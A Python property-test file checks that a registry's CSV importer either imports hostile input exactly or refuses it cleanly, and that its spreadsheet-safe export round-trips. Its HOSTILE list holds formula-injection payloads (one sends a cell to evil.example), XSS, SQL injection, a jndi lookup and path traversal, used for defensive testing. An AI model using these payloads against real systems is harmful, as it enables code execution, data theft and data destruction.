"""Hostile input: generated CSV files end in a complete import or ImportFailed, never anything else.

Property tests (hypothesis) for ``registry.io.ingest`` and ``registry.io.export``. They run a
fixed number of examples, derandomized, so CI sees the same cases on every run: the
"trust" profile below runs ``EXAMPLES`` = 100 examples for each of the 9 properties
(900 generated cases, about 25 s of CPU); ``REGISTRY_TRUST_EXAMPLES=2000`` runs a deeper
local search with the same code.

Expected values come from the generated input and from the rules the importer
documents (docs/data-safety.md), written out again here:

- cells are trimmed of surrounding white space and an empty cell is stored as NULL;
- a cell that starts with a quote followed by ``= + - @``, tab or CR (after any further
  quotes) is read without its first quote: that is how a spreadsheet-safe export marks
  text a spreadsheet would otherwise run as a formula;
- rows are numbered as in a spreadsheet: the header is row 1, row 0 is the file itself;
- vertical tab, form feed and NEL are read as newlines; other control characters XML cannot
  hold, and text that looks like UTF-8 read as Windows-1252 ("TromsÃ¸"), are refused.
"""

from __future__ import annotations

import codecs
import csv
import io
import os
import re
import sqlite3
import string

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from registry import connect, import_texts, insert, load_seed, update
from registry.errors import ImportFailed, InvalidRow
from registry.io import ingest
from registry.io.export import csv_text
from registry.store import validate
from registry.store.schema import TABLES
from registry.vocab import ENTITY_KINDS, SECTORS, TIE_KINDS
from tests.conftest import table_snapshot

EXAMPLES = int(os.environ.get("REGISTRY_TRUST_EXAMPLES", "100"))
settings.register_profile(
    "trust",
    max_examples=EXAMPLES,
    deadline=None,  # the first example pays for imports; a deadline would make CI flaky
    derandomize=True,  # the same examples on every run
    database=None,  # nothing remembered between runs: the examples are the documented ones
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
TRUST = settings.get_profile("trust")

FORMULA_CHARS = "=+-@\t\r"
DATA = ("entities", "ties", "decisions", "plan_lines")

# Strings that have hurt other systems: formula injection, markup, SQL, format strings,
# control characters and scripts that render right to left.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "'=already quoted",
    "''=twice quoted",
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(document.cookie)",
    "'); DROP TABLE entities;--",
    "Robert'); DROP TABLE ties;--",
    "x' OR '1'='1",
    '"; DELETE FROM audit; --',
    "%s %d {0} {name} ${jndi:ldap://x/a}",
    "../../etc/passwd",
    "NULL",
    "None",
    "Bodø, Tromsø og Ålesund; «æøå» – ÆØÅ",
    'say "hei", then ""quote""',
    "line one\nline two",
    "cr\ronly",
    "windows\r\nline",
    "tab\tinside",
    "right-to-left \u202egnp.exe",
    "zero\u200bwidth",
    "emoji 🎉🇳🇴",
    "\u0130stanbul \u00df \ufb01",
]

# Control characters XML cannot hold are refused (test_control_characters_* below); vertical tab,
# form feed and NEL are read as newlines, which stored_text expects.
_chars = st.characters(
    codec="utf-8",
    exclude_characters="".join(chr(c) for c in (*range(0x09), *range(0x0E, 0x20), *range(0x7F, 0x85), *range(0x86, 0xA0), 0xFFFE, 0xFFFF)),
)
# Text that looks like UTF-8 read as Windows-1252 ("Ã¸") is refused as garbled: left out here too.
free_text = st.text(_chars, max_size=24).filter(lambda s: validate.garbled(s) is None)
hostile_text = st.one_of(
    st.sampled_from(HOSTILE), free_text, st.builds(lambda a, b, c: a + b + c, st.sampled_from(HOSTILE), free_text, st.sampled_from(HOSTILE))
).filter(lambda s: validate.garbled(s) is None)
_ID_START = string.ascii_lowercase + string.digits
# Valid ids (validate.ID_PATTERN), built rather than drawn from a regex, which is several times slower.
ids = st.builds(lambda a, b: a + b, st.sampled_from(_ID_START), st.text(_ID_START + "_.-", max_size=12))


# --- the documented reading rules -------------------------------------------------------------


def stored_text(cell: str) -> str | None:
    """Return what the registry stores for ``cell``, by the rules in the module docstring."""
    if re.match(r"'+[=+\-@\t\r]", cell):
        cell = cell[1:]
    cell = cell.strip().replace("\x0b", "\n").replace("\x0c", "\n").replace("\x85", "\n").strip()
    return cell or None


required_text = hostile_text.filter(lambda s: stored_text(s) is not None)


# --- building input -----------------------------------------------------------------------------


def encode(text: str, encoding: str) -> bytes:
    """Return ``text`` as the bytes a file in ``encoding`` would hold (UTF-16 always with a BOM)."""
    if encoding == "utf-16-le":
        return codecs.BOM_UTF16_LE + text.encode("utf-16-le")
    if encoding == "utf-16-be":
        return codecs.BOM_UTF16_BE + text.encode("utf-16-be")
    return text.encode(encoding)


def encodings_for(text: str) -> list[str]:
    """Return the encodings the importer must read ``text`` in.

    Windows-1252 only where the bytes are not also valid UTF-8 with another meaning:
    such a file is read as UTF-8, which no importer can tell apart.
    """
    found = ["utf-8", "utf-8-sig", "utf-16-le", "utf-16-be"]
    try:
        data = text.encode("cp1252")
    except UnicodeEncodeError:
        return found
    try:
        if data.decode("utf-8") != text:
            return found
    except UnicodeDecodeError:
        pass
    return found + ["cp1252"]


@st.composite
def csv_file(draw, header: list[str], rows: list[list[str]]) -> tuple[str, list[str]]:  # type: ignore[no-untyped-def]
    """Return ``(text, newlines)``: the rows written with a newline drawn per row, quoting drawn per row."""
    buf = io.StringIO()
    newlines = []
    for cells in [header, *rows]:
        nl = draw(st.sampled_from(["\n", "\r\n", "\r"]))
        newlines.append(nl)
        # QUOTE_MINIMAL quotes only the terminator's own characters: a bare CR stays unquoted
        # when the terminator is "\n", and LF when it is "\r". Quote all then.
        minimal = draw(st.booleans()) and not any("\r" in c or "\n" in c for c in cells)
        w = csv.writer(buf, lineterminator=nl, quoting=csv.QUOTE_MINIMAL if minimal else csv.QUOTE_ALL)
        w.writerow(cells)
    return buf.getvalue(), newlines


_ENTITY_OPTIONAL = ["name_en", "country_code", "lat", "lon", "url", "notes"]
_entity_values = st.fixed_dictionaries(
    {
        "kind": st.sampled_from([t.code for t in ENTITY_KINDS]),
        "name": required_text,
        "source": required_text,
        "name_en": hostile_text,
        "country_code": st.sampled_from(["", "NO", "SE", "XK", "GB", "DE"]),
        "lat": st.one_of(st.just(""), st.floats(-90, 90).map(repr)),
        "lon": st.one_of(st.just(""), st.floats(-180, 180).map(repr)),
        "url": hostile_text,
        "notes": hostile_text,
    }
)


@st.composite
def entity_rows(draw, n_min: int = 1, n_max: int = 5) -> tuple[list[str], list[dict[str, str]]]:  # type: ignore[no-untyped-def]
    """Return ``(header, rows)`` for a valid entities file with hostile text in every text column."""
    n = draw(st.integers(n_min, n_max))
    row_ids = draw(st.lists(ids, min_size=n, max_size=n, unique=True))
    optional = draw(st.lists(st.sampled_from(_ENTITY_OPTIONAL), unique=True))
    header = draw(st.permutations(["id", "kind", "name", "source", *optional]))
    rows = []
    for eid in row_ids:
        row = {"id": eid, **draw(_entity_values)}
        rows.append({k: row[k] for k in header})
    return header, rows


partial_dates = st.builds(lambda d, parts: d.isoformat()[: (4, 7, 10)[parts]], st.dates(), st.integers(0, 2))
_TIE_OPTIONAL = ["sectors", "start", "end", "goals", "notes", "strategy_points"]
_tie_values = st.fixed_dictionaries(
    {
        "kind": st.sampled_from([t.code for t in TIE_KINDS]),
        "source": required_text,
        "sectors": st.lists(st.sampled_from([t.code for t in SECTORS]), unique=True, max_size=3).map(";".join),
        "start": st.one_of(st.just(""), partial_dates),
        "end": st.one_of(st.just(""), partial_dates),
        "goals": hostile_text,
        "notes": hostile_text,
        "strategy_points": st.sampled_from(["", "2a", "2a;4e", "1f;3e;4f"]),
    }
)


@st.composite
def tie_rows(draw, entity_ids: list[str], n_max: int = 4) -> tuple[list[str], list[dict[str, str]]]:  # type: ignore[no-untyped-def]
    """Return ``(header, rows)`` for a valid ties file between ``entity_ids`` (at least two)."""
    n = draw(st.integers(1, n_max))
    tie_ids = draw(st.lists(ids.map(lambda s: "t-" + s), min_size=n, max_size=n, unique=True))
    optional = draw(st.lists(st.sampled_from(_TIE_OPTIONAL), unique=True))
    header = draw(st.permutations(["id", "from_id", "to_id", "kind", "source", *optional]))
    rows = []
    for tid in tie_ids:
        a, b = draw(st.lists(st.sampled_from(entity_ids), min_size=2, max_size=2, unique=True))
        row = {"id": tid, "from_id": a, "to_id": b, **draw(_tie_values)}
        start, end = row["start"], row["end"]
        if start and end and end[:4] < start[:4]:
            start, end = end, start
        if start and end and end[:4] == start[:4]:
            end = ""  # same year: an order check on months is beside the point here
        row.update(start=start, end=end)
        rows.append({k: row[k] for k in header})
    return header, rows


# --- registries ---------------------------------------------------------------------------------

_TEMPLATE: dict[str, sqlite3.Connection] = {}


def fresh(seeded: bool = False) -> sqlite3.Connection:
    """Return a new in-memory registry, empty or holding the seed (copied from one loaded once)."""
    key = "seeded" if seeded else "empty"
    if key not in _TEMPLATE:
        template = connect(":memory:")
        if seeded:
            load_seed(template)
        _TEMPLATE[key] = template
    conn = connect(":memory:", migrate=False)
    _TEMPLATE[key].backup(conn)
    return conn


def stored(conn: sqlite3.Connection, table: str) -> dict[str, dict]:
    cur = conn.execute(f"SELECT * FROM [{table}]")
    names = [d[0] for d in cur.description]
    return {r[0]: dict(zip(names, r)) for r in cur}


def expected_value(table: str, column: str, cell: str):  # type: ignore[no-untyped-def]
    text = stored_text(cell)
    if text is not None and TABLES[table].column(column).type == "REAL":
        return float(text)
    return text


# --- 1. valid files with hostile text import completely and verbatim -------------------------


@pytest.mark.slow
@TRUST
@given(data=st.data())
def test_valid_files_with_hostile_text_import_exactly(data):
    e_header, e_rows = data.draw(entity_rows(n_min=2))
    t_header, t_rows = data.draw(tie_rows([r["id"] for r in e_rows]))
    files = []
    for name, header, rows in (("entities.csv", e_header, e_rows), ("ties.csv", t_header, t_rows)):
        text, _ = data.draw(csv_file(header, [[r[h] for h in header] for r in rows]))
        enc = data.draw(st.sampled_from(encodings_for(text)), label=f"{name} encoding")
        files.append((name, encode(text, enc)))
    files = data.draw(st.permutations(files))  # the importer orders parents first itself
    conn = fresh()

    report = import_texts(conn, files, actor="hostile")

    assert report.counts["entities"]["inserted"] == len(e_rows)
    assert report.counts["ties"]["inserted"] == len(t_rows)
    for table, rows in (("entities", e_rows), ("ties", t_rows)):
        got = stored(conn, table)
        assert len(got) == len(rows)
        for row in rows:
            for col, cell in row.items():
                if col == "sectors":
                    assert got[row["id"]][col] == (cell or None)
                else:
                    assert got[row["id"]][col] == expected_value(table, col, cell), (table, col, cell)
    # One audit row per row written, all by the importing actor.
    assert conn.execute("SELECT count(*), min(actor), max(actor) FROM audit").fetchone() == (
        len(e_rows) + len(t_rows),
        "hostile",
        "hostile",
    )
    # The tables the SQL fragments name are still there, untouched but for the new rows.
    assert conn.execute("SELECT count(*) FROM entity_kinds").fetchone()[0] == len(ENTITY_KINDS)


# --- 2. broken files: ImportFailed naming the rows, and nothing written -----------------------

LONG = "x" * (validate.MAX_FIELD_CHARS + 1)

# (name, column, new value or None for 'drop the last cell', reason fragment); all are invalid.
ENTITY_BREAKS = [
    ("unknown kind", "kind", st.sampled_from(["town", "City", "", "city;country", "'); DROP TABLE entities;--"]), ""),
    ("bad id", "id", st.sampled_from(["Has Space", "UPPER", "a/b", "-x", "ø", "x" * 201, "<b>"]), "valid id"),
    ("bad country", "country_code", st.sampled_from(["ZZ", "no", "NOR", "=1+1"]), "ISO 3166"),
    ("bad latitude", "lat", st.sampled_from(["north", "91", "-90.5", "nan", "inf", "1e999", "=1"]), ""),
    ("empty name", "name", st.sampled_from(["", "   ", "\t"]), "required"),
    ("huge name", "name", st.just(LONG), f"the limit is {validate.MAX_FIELD_CHARS}"),
    ("huge notes", "notes", st.just("<p>" * 4000), f"the limit is {validate.MAX_FIELD_CHARS}"),
    ("bad wikidata id", "wikidata_id", st.sampled_from(["Q0", "q12", "Q12x", "12"]), "Wikidata id"),
    ("short row", None, st.none(), "fields"),
]
TIE_BREAKS = [
    ("unknown from", "from_id", st.sampled_from(["nowhere", "atlantis", "'); DROP TABLE ties;--"]), "does not exist"),
    ("unknown to", "to_id", st.sampled_from(["nowhere-2"]), "does not exist"),
    (
        "impossible start",
        "start",
        st.sampled_from(
            ["2023-02-29", "1989-13", "1989-00", "0000", "19890", "1989-6", "1989-04-31", "89", "next year", "1989-06-15T00:00"]
        ),
        "",
    ),
    ("unknown sector", "sectors", st.sampled_from(["culture;piracy", "CULTURE", ";;"]), "unknown code"),
    ("bad strategy point", "strategy_points", st.sampled_from(["5z", "2A", "2a;;"]), "strategy point"),
    ("unknown tie kind", "kind", st.sampled_from(["friends", "sister city"]), "unknown code"),
    ("huge id", "id", st.just(LONG), f"the limit is {validate.MAX_FIELD_CHARS}"),
    ("huge goals", "goals", st.just("=" + LONG), f"the limit is {validate.MAX_FIELD_CHARS}"),
]


def _put(header: list[str], rows: list[dict[str, str]], r: int, column: str | None, value: str | None) -> None:
    if column is None:
        rows[r]["__short__"] = "1"
        return
    if column not in header:
        header.append(column)
        for row in rows:
            row[column] = ""
    rows[r][column] = value  # type: ignore[assignment]


def _cells(header: list[str], rows: list[dict[str, str]]) -> list[list[str]]:
    return [[r.get(h, "") for h in header][: -1 if "__short__" in r else None] for r in rows]


@pytest.mark.slow
@TRUST
@given(data=st.data())
def test_broken_files_are_refused_with_their_rows_and_nothing_is_written(data):
    e_header, e_rows = data.draw(entity_rows(n_min=2, n_max=5))
    t_header, t_rows = data.draw(tie_rows([r["id"] for r in e_rows]))
    expected: set[tuple[str, int, str]] = set()
    reasons: dict[tuple[str, int, str], str] = {}
    for name, header, rows, breaks in (("entities.csv", e_header, e_rows, ENTITY_BREAKS), ("ties.csv", t_header, t_rows, TIE_BREAKS)):
        targets = data.draw(st.lists(st.integers(0, len(rows) - 1), unique=True, max_size=2), label=f"{name} rows")
        if name == "entities.csv":
            targets = [r for r in targets if r > 0]  # row 0 keeps its id: ties refer to it
        for r in targets:
            label, column, values, reason = data.draw(st.sampled_from(breaks), label=f"{name} row {r + 2}")
            value = data.draw(values)
            # A changed entity id also breaks the ties that refer to it: reported too, not checked here.
            _put(header, rows, r, column, value)
            key = (name, r + 2, column or "")
            expected.add(key)
            reasons[key] = reason
    if not expected:
        # Nothing broken yet: duplicate an id (the later row is the one blamed).
        e_rows[1]["id"] = e_rows[0]["id"]
        expected.add(("entities.csv", 3, "id"))
        reasons[("entities.csv", 3, "id")] = "also on row 2"
    files = []
    for name, header, rows in (("entities.csv", e_header, e_rows), ("ties.csv", t_header, t_rows)):
        text, _ = data.draw(csv_file(header, _cells(header, rows)))
        files.append((name, encode(text, data.draw(st.sampled_from(encodings_for(text))))))
    conn = fresh(seeded=True)
    before = table_snapshot(conn)

    with pytest.raises(ImportFailed) as exc:
        import_texts(conn, files, actor="hostile")

    found: dict[tuple[str, int, str], list[str]] = {}
    for p in exc.value.problems:
        found.setdefault((p.file, p.row, p.column), []).append(p.reason)
    for key in expected:
        assert key in found, (key, exc.value.problems)
        # One cell may have several problems (two rows with the same invalid id: invalid, and a duplicate).
        assert any(reasons[key] in r for r in found[key]), (key, found[key])
    assert all(p.file in ("entities.csv", "ties.csv") and 0 <= p.row <= 7 for p in exc.value.problems)
    assert table_snapshot(conn) == before


FILE_BREAKS = [
    ("empty", lambda b: b"", 1, "empty"),
    ("only a BOM", lambda b: codecs.BOM_UTF8, 1, "empty"),
    ("only newlines", lambda b: b"\r\n\n\r", 1, "empty"),
    ("NUL byte", lambda b: b[:5] + b"\x00" + b[5:], 0, "NUL"),
    ("UTF-16 cut in half a character", lambda b: codecs.BOM_UTF16_LE + b.decode("utf-8").encode("utf-16-le")[:-1], 0, "UTF-16"),
    ("lone UTF-16 surrogate", lambda b: codecs.BOM_UTF16_LE + b"i\x00d\x00\x00\xd8,\x00", 0, "UTF-16"),
    ("UTF-8 BOM, then bytes that are not UTF-8", lambda b: codecs.BOM_UTF8 + b + b"\xff,\xc3", 0, "UTF-8"),
    ("not Windows-1252 either", lambda b: b + b"\x81\x8d\x8f\x90\x9d\xff\xfe", 0, "cannot read"),
    ("header matches no table", lambda b: b"colour,size\nred,1\n", 1, "cannot tell which table"),
    ("header only garbage", lambda b: b'"\n', 1, ""),
]
HEADER_BREAKS = [
    ("drop a required column", "drop", "required column is missing"),
    ("unknown column", "add", "unknown column"),
    ("column twice", "twice", "appears twice"),
    ("a name the importer keeps for itself", "reserved", "reserved"),
]


@pytest.mark.slow
@TRUST
@given(data=st.data())
def test_broken_files_and_headers_are_refused_as_a_whole(data):
    e_header, e_rows = data.draw(entity_rows())
    conn = fresh(seeded=True)
    before = table_snapshot(conn)
    text, _ = data.draw(csv_file(e_header, [[r[h] for h in e_header] for r in e_rows]))
    if data.draw(st.booleans(), label="break the file, not the header"):
        label, breaker, row, reason = data.draw(st.sampled_from(FILE_BREAKS))
        payload = breaker(text.encode("utf-8"))
        expected = ("entities.csv", row, "")
    else:
        label, how, reason = data.draw(st.sampled_from(HEADER_BREAKS))
        header = list(e_header)
        if how == "drop":
            column = "source"  # without id, kind or name the file is not recognised at all (FILE_BREAKS)
            header.remove(column)
        elif how == "add":
            column = data.draw(st.sampled_from(["colour", "ID", "version2", "<script>"]))
            header.append(column)
        elif how == "reserved":
            column = data.draw(st.sampled_from(["__row__", "__width__"]))
            header.append(column)
        else:
            column = data.draw(st.sampled_from(e_header))
            header.append(column)
        cells = [[r.get(h, "x") for h in header] for r in e_rows]
        text, _ = data.draw(csv_file(header, cells))
        payload = encode(text, data.draw(st.sampled_from(encodings_for(text))))
        expected = ("entities.csv", 1, column)
    # A good ties file alongside: one broken file refuses the whole import.
    good = b"id,from_id,to_id,kind,source\nt-new,trondheim,darmstadt,project,s\n"

    with pytest.raises(ImportFailed) as exc:
        import_texts(conn, [("entities.csv", payload), ("ties.csv", good)], actor="hostile")

    found = {(p.file, p.row, p.column): p.reason for p in exc.value.problems}
    assert expected in found, (label, exc.value.problems)
    assert reason in found[expected]
    assert table_snapshot(conn) == before


# --- 3. anything at all: ImportFailed or a complete import, never another exception ----------


@TRUST
@given(
    payload=st.one_of(
        st.binary(max_size=200),
        st.text(_chars, max_size=200).map(lambda s: s.encode("utf-8")),
        st.builds(
            lambda h, body: (h + body).encode("utf-8"),
            st.sampled_from(
                [
                    "id,kind,name,source\n",
                    "id,from_id,to_id,kind,source\n",
                    "tie_id,category,decided_on,decided_by,reason\n",
                    "tie_id,year,amount_nok,funder,purpose\n",
                    "city,cityLabel,twin,twinLabel\n",
                ]
            ),
            st.text(st.sampled_from(string.printable + "æøå\"'=;,"), max_size=200),
        ),
    )
)
def test_any_bytes_end_in_a_complete_import_or_import_failed(payload):
    conn = fresh(seeded=True)
    before = table_snapshot(conn)
    audit_before = before["audit"]
    try:
        report = import_texts(conn, [("any.csv", payload)], actor="hostile")
    except ImportFailed as exc:
        assert exc.problems and all(p.file == "any.csv" for p in exc.problems)
        assert table_snapshot(conn) == before
        return
    # Accepted: every change it counted has its audit row, and no seed row vanished.
    new_audit = conn.execute("SELECT count(*) FROM audit").fetchone()[0] - len(audit_before)
    assert new_audit == report.total("inserted") + report.total("updated")
    for table in DATA:
        assert conn.execute(f"SELECT count(*) FROM [{table}]").fetchone()[0] >= len(before[table])


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return re.fullmatch(r"-[0-9.e+-]+", cell) is not None


# --- 4. other tables, numbers of any size, unique Wikidata ids, append-only decisions ---------

_int_cells = st.one_of(
    st.integers(-(2**80), 2**80).map(str),
    st.integers(1900, 2200).map(str),
    st.sampled_from(["", "1.5", "1e3", "0x10", " 7 ", "-0", "2027.0", "9" * 30, "NaN", "=1+1"]),
    hostile_text,
)
_plan_line = st.fixed_dictionaries(
    {
        "id": st.one_of(st.just(""), _int_cells),
        "tie_id": st.sampled_from(["trondheim--graz"] * 4 + ["nowhere", "consulate-denmark--denmark"]),
        "year": st.one_of(st.integers(1900, 2200).map(str), _int_cells),
        "amount": _int_cells,
        "funder": required_text,
        "purpose": required_text,
    }
)


def _as_int(cell: str) -> int | None:
    # The reading rule for whole numbers: Python's int() of the trimmed cell; empty is NULL.
    return int(cell.strip()) if cell.strip() else None


@TRUST
@given(rows=st.lists(_plan_line, min_size=1, max_size=4), encoding=st.sampled_from(["utf-8", "utf-16-le"]))
@example(
    rows=[{"id": "", "tie_id": "trondheim--graz", "year": "2027", "amount": "9" * 30, "funder": "municipal", "purpose": "x"}],
    encoding="utf-8",
)  # past SQLite's 64-bit integers
@example(
    rows=[{"id": str(2**63), "tie_id": "trondheim--graz", "year": "2027", "amount": "1", "funder": "municipal", "purpose": "x"}],
    encoding="utf-8",
)
def test_plan_lines_with_numbers_of_any_size(rows, encoding):
    header = ["id", "tie_id", "year", "amount", "funder", "purpose"]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows([header, *[[r[h] for h in header] for r in rows]])
    conn = fresh(seeded=True)
    before = table_snapshot(conn)
    try:
        report = import_texts(conn, [("plan.csv", encode(buf.getvalue(), encoding))], actor="hostile")
    except ImportFailed as exc:
        assert all(p.file == "plan.csv" and 0 <= p.row <= len(rows) + 1 for p in exc.problems)
        assert table_snapshot(conn) == before
        return
    # Accepted: every row is stored with the numbers and text it had.
    got = conn.execute("SELECT tie_id, year, amount, funder, purpose FROM plan_lines").fetchall()
    want = [(r["tie_id"], _as_int(r["year"]), _as_int(r["amount"]), stored_text(r["funder"]), stored_text(r["purpose"])) for r in rows]
    assert sorted(map(repr, got)) == sorted(map(repr, want))
    assert report.counts["plan_lines"]["inserted"] == len(rows)


@TRUST
@given(wikidata=st.lists(st.sampled_from(["", "Q1", "Q2", "Q25804"]), min_size=2, max_size=5))
def test_wikidata_ids_stay_unique(wikidata):
    conn = fresh()
    insert(
        conn,
        "entities",
        {"id": "trondheim", "kind": "municipality", "name": "Trondheim", "source": "s", "wikidata_id": "Q25804"},
        actor="t",
    )
    before = table_snapshot(conn)
    text = "id,kind,name,source,wikidata_id\n" + "".join(f"e{i},city,E{i},s,{q}\n" for i, q in enumerate(wikidata))
    # The rule: one entity per Wikidata item, counting the one already stored.
    seen = {"Q25804": None}
    blamed = set()
    for i, q in enumerate(wikidata):
        if q and q in seen:
            blamed.add(i + 2)
        seen.setdefault(q, i + 2)
    if not blamed:
        import_texts(conn, [("e.csv", text.encode())], actor="t")
        assert conn.execute("SELECT count(*) FROM entities").fetchone()[0] == 1 + len(wikidata)
        return
    with pytest.raises(ImportFailed) as exc:
        import_texts(conn, [("e.csv", text.encode())], actor="t")
    assert {p.row for p in exc.value.problems if p.column == "wikidata_id"} == blamed
    assert table_snapshot(conn) == before


_decision = st.fixed_dictionaries(
    {
        "category": st.sampled_from(["project", "political_focus", "solidarity", "dormant", "unclassified"]),
        "decided_on": st.sampled_from(["2026", "2026-02", "2026-02-03"]),
        "reason": st.sampled_from(["No activity", "Active school exchange", "'); DROP TABLE decisions;--"]),
    }
)


@TRUST
@given(first=_decision, second=_decision)
def test_decisions_are_never_changed_by_import(first, second):
    conn = fresh(seeded=True)

    def file(d: dict) -> bytes:
        buf = io.StringIO()
        w = csv.writer(buf, lineterminator="\n")
        w.writerows(
            [
                ["id", "tie_id", "category", "decided_on", "decided_by", "reason"],
                ["100", "trondheim--graz", d["category"], d["decided_on"], "Bystyret", d["reason"]],
            ]
        )
        return buf.getvalue().encode()

    import_texts(conn, [("d.csv", file(first))], actor="t")
    before = table_snapshot(conn)
    if first == second:
        report = import_texts(conn, [("d.csv", file(second))], actor="t")
        assert report.counts["decisions"]["unchanged"] == 1
    else:
        # Decisions are history: the same id with other content is refused, naming the row.
        with pytest.raises(ImportFailed) as exc:
            import_texts(conn, [("d.csv", file(second))], actor="t")
        assert [(p.row, p.column) for p in exc.value.problems] == [(2, "id")]
    assert table_snapshot(conn) == before


_iri = st.one_of(
    st.integers(1, 10**9).map(lambda n: f"http://www.wikidata.org/entity/Q{n}"),
    st.sampled_from(["Q25804", "Q1", "http://www.wikidata.org/entity/Q0", "https://evil.example/Q1"]),
    hostile_text,
)
_wd_date = st.one_of(st.just(""), st.dates().map(lambda d: f"{d.isoformat()}T00:00:00Z"), hostile_text)


@TRUST
@given(
    header=st.permutations(["city", "cityLabel", "twin", "twinLabel", "twinCountryCode", "start", "end"]),
    extra=st.sampled_from([[], ["__row__"], ["__width__"], ["notes"]]),
    rows=st.lists(
        st.tuples(_iri, hostile_text, _iri, hostile_text, st.sampled_from(["", "NO", "DE", "zz", "Bodø"]), _wd_date, _wd_date), max_size=4
    ),
)
def test_wikidata_exports_with_hostile_cells(header, extra, rows):
    names = ["city", "cityLabel", "twin", "twinLabel", "twinCountryCode", "start", "end"]
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n", quoting=csv.QUOTE_ALL)
    w.writerow(header + extra)
    for r in rows:
        cells = dict(zip(names, r))
        w.writerow([cells[h] for h in header] + ["7"] * len(extra))
    conn = fresh(seeded=True)
    before = table_snapshot(conn)
    try:
        import_texts(conn, [("wd.csv", buf.getvalue().encode())], actor="hostile")
    except ImportFailed as exc:
        # Problems name rows of this file (whatever its extra columns are called).
        assert all(p.file == "wd.csv" and 0 <= p.row <= len(rows) + 1 for p in exc.problems), exc.problems
        assert table_snapshot(conn) == before
        return
    after = table_snapshot(conn)
    # Accepted: seed rows are all still there; new audit rows match the new and changed rows.
    for table in DATA:
        assert len(after[table]) >= len(before[table])
    assert len(after["audit"]) >= len(before["audit"])


# --- 5. spreadsheet-safe export, and the round trip back --------------------------------------


@pytest.mark.slow
@TRUST
@given(data=st.data())
def test_export_round_trip_restores_hostile_text(data):
    source = fresh()
    n = data.draw(st.integers(2, 5))
    row_ids = data.draw(st.lists(ids, min_size=n, max_size=n, unique=True))
    for eid in row_ids:
        insert(
            source,
            "entities",
            {
                "id": eid,
                "kind": "city",
                "name": data.draw(required_text),
                "source": data.draw(required_text),
                "notes": data.draw(hostile_text),
                "name_en": data.draw(hostile_text),
                "lon": data.draw(st.one_of(st.none(), st.floats(-180, 180))),
            },
            actor="t",
        )
    insert(
        source,
        "ties",
        {
            "id": "t",
            "from_id": row_ids[0],
            "to_id": row_ids[1],
            "kind": "project",
            "source": data.draw(required_text),
            "goals": data.draw(hostile_text),
        },
        actor="t",
    )
    safe = data.draw(st.booleans(), label="spreadsheet_safe")
    texts = {t: csv_text(source, t, spreadsheet_safe=safe) for t in ("entities", "ties")}

    if safe:
        # No cell a spreadsheet would read as a formula: none starts with = + - @ tab or CR.
        for text in texts.values():
            for record in csv.reader(io.StringIO(text, newline="")):
                # Numbers stay numbers (a negative number is not a formula).
                risky = [c for c in record if c.startswith(tuple(FORMULA_CHARS)) and not _is_number(c)]
                assert risky == [], record
    target = fresh()
    import_texts(target, [(f"{t}.csv", text.encode("utf-8")) for t, text in texts.items()], actor="t")

    for table in ("entities", "ties"):
        keep = [c for c in TABLES[table].names if c not in ("version", "updated_at", "updated_by")]
        original = {k: {c: v[c] for c in keep} for k, v in stored(source, table).items()}
        back = {k: {c: v[c] for c in keep} for k, v in stored(target, table).items()}
        assert back == original


# --- size limits name themselves --------------------------------------------------------------


def test_file_size_limit_is_named(conn, monkeypatch):
    monkeypatch.setattr(ingest, "MAX_FILE_BYTES", 64)
    data = b"id,kind,name,source\n" + b"a,city,A,s\n" * 10  # 130 bytes
    with pytest.raises(ImportFailed) as exc:
        import_texts(conn, [("big.csv", data)], actor="t")
    assert [str(p) for p in exc.value.problems] == ["big.csv:0: file is 130 bytes; the limit is 64"]


def test_row_limit_is_named(conn, monkeypatch):
    monkeypatch.setattr(ingest, "MAX_ROWS", 3)
    data = b"id,kind,name,source\n" + b"".join(b"e%d,city,E,s\n" % i for i in range(4))
    with pytest.raises(ImportFailed) as exc:
        import_texts(conn, [("rows.csv", data)], actor="t")
    # The fourth data row is row 5 (the header is row 1).
    assert [str(p) for p in exc.value.problems] == ["rows.csv:5: more than 3 rows; the limit is 3"]
    assert conn.execute("SELECT count(*) FROM entities").fetchone()[0] == 0


def test_field_limit_is_named_and_the_limit_itself_is_accepted(conn):
    limit = validate.MAX_FIELD_CHARS
    ok = f"id,kind,name,source\na,city,{'n' * limit},s\n".encode()
    import_texts(conn, [("ok.csv", ok)], actor="t")
    assert len(conn.execute("SELECT name FROM entities").fetchone()[0]) == limit
    too_long = f"id,kind,name,source\nb,city,{'n' * (limit + 1)},s\n".encode()
    with pytest.raises(ImportFailed) as exc:
        import_texts(conn, [("long.csv", too_long)], actor="t")
    assert [str(p) for p in exc.value.problems] == [f"long.csv:2: name: text is {limit + 1} characters; the limit is {limit}"]


def test_the_quote_rule_by_example(conn):
    # The rule in the module docstring, on the cases that motivate it.
    data = (
        b"id,kind,name,source,notes\n"
        b"a,city,'=SUM(A1),s,'@x\n"  # exported spreadsheet-safe: the quote goes
        b"b,city,''=x,s,'plain\n"  # a quoted quote: one quote goes; a quote before text stays
        b"c,city,' =x,s,'\n"
    )  # space after the quote: not a formula, the quote stays
    import_texts(conn, [("q.csv", data)], actor="t")
    got = dict(conn.execute("SELECT id, name || '|' || coalesce(notes, '') FROM entities"))
    assert got == {"a": "=SUM(A1)|@x", "b": "'=x|'plain", "c": "' =x|'"}


def test_swapping_wikidata_ids_is_refused_whole(conn):
    # Two stored entities trading items in one file: each row is fine alone, but SQLite's unique
    # index refuses the first update. The safety net turns that into ImportFailed; nothing is written.
    import_texts(conn, [("e.csv", b"id,kind,name,source,wikidata_id\na,city,A,s,Q1\nb,city,B,s,Q2\n")], actor="t")
    before = table_snapshot(conn)
    with pytest.raises(ImportFailed) as exc:
        import_texts(conn, [("e.csv", b"id,kind,name,source,wikidata_id\na,city,A,s,Q2\nb,city,B,s,Q1\n")], actor="t")
    assert "UNIQUE constraint failed: entities.wikidata_id" in exc.value.problems[0].reason
    assert table_snapshot(conn) == before


